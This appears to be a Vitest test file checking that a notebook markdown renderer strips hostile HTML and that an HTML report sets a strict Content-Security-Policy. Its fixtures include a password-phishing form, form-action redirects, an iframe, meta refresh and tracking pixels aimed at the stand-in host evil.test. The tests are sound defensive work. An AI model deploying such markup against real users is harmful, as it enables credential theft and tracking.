import { JSDOM } from 'jsdom';
import { describe, expect, it } from 'vitest';
import { markdownRenderer } from '../../../src/format/markdown.ts';
import { reportHtml } from '../../../src/format/report.ts';

const render = markdownRenderer(new JSDOM('').window as never);

describe('markdown from a notebook', () => {
  it('keeps prose, tables, links and inline images', () => {
    const html = render('# Revenue\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[docs](https://example.org/x) ![dot](data:image/png;base64,AAAA)');
    expect(html).toContain('<h1>Revenue</h1>');
    expect(html).toContain('<td>1</td>');
    expect(html).toContain('href="https://example.org/x"');
    expect(html).toContain('src="data:image/png;base64,AAAA"');
  });

  it('drops a form that would send what is typed into it to another site', () => {
    const html = render(
      '<form action="http://127.0.0.1:4311/phish" method="get"><input name="passphrase" type="password"><button>Unlock</button></form>',
    );
    expect(html).not.toMatch(/<form|<input|<button|phish/i);
  });

  it('drops buttons that submit elsewhere, frames, base, meta refresh and styles', () => {
    const html = render(
      '<button formaction="http://evil.test/x">go</button><iframe src="http://evil.test"></iframe><base href="http://evil.test/">' +
        '<meta http-equiv="refresh" content="0;url=http://evil.test"><style>body{background:url(http://evil.test/p)}</style><p>kept</p>',
    );
    expect(html.replace(/\s+/g, '')).toBe('<p>go</p><p>kept</p><p></p>');
  });

  it('drops images and media fetched from other sites, which would tell them the notebook was opened', () => {
    const html = render(
      '![pixel](http://evil.test/p.gif) <img src="//evil.test/q.gif"> <img srcset="http://evil.test/r.gif 1x"> <video poster="https://evil.test/v.png"></video> <a href="x" ping="http://evil.test/ping">x</a>',
    );
    expect(html).not.toContain('evil.test');
  });
});

describe('the HTML report', () => {
  it('forbids forms from submitting anywhere, and a base URL', () => {
    const html = reportHtml({ title: 'T', date: '2026-12-06', data: [], blocks: [] });
    const policy = /http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html)?.[1] ?? '';
    expect(policy.split('; ')).toEqual(expect.arrayContaining(["default-src 'none'", "form-action 'none'", "base-uri 'none'"]));
  });
});
